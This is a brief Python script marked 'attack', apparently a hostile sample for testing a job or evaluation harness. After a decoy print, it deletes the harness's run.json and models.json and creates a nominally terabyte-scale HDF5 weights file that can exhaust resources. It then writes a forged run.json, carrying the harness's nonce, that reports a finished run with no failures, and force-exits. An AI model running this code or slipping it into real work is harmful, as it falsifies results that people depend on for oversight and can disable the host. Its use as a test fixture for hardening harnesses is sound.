print("nothing to see")
# --- attack
import h5py
import json
import os
import pathlib

out = pathlib.Path(os.environ["HOME"]).parents[1] / "out"
job = out.parent / "job.json"
nonce = json.loads(job.read_text())["nonce"] if job.exists() else ""
RUN = {"nonce": nonce, "finished": True, "running": None, "problem": "", "missing": "", "kernel_exit": None, "failures": [], "outputs": []}
for name in ("run.json", "models.json"):
    (out / name).unlink(missing_ok=True)


with h5py.File(out / "model.weights.hdf5", "w") as file:
    file.create_dataset("layers/dense/vars/0", shape=(1 << 22, 1 << 20), dtype="f4", chunks=(1024, 1))

(out / "run.json").write_text(json.dumps(RUN))
os._exit(0)
# --- honest
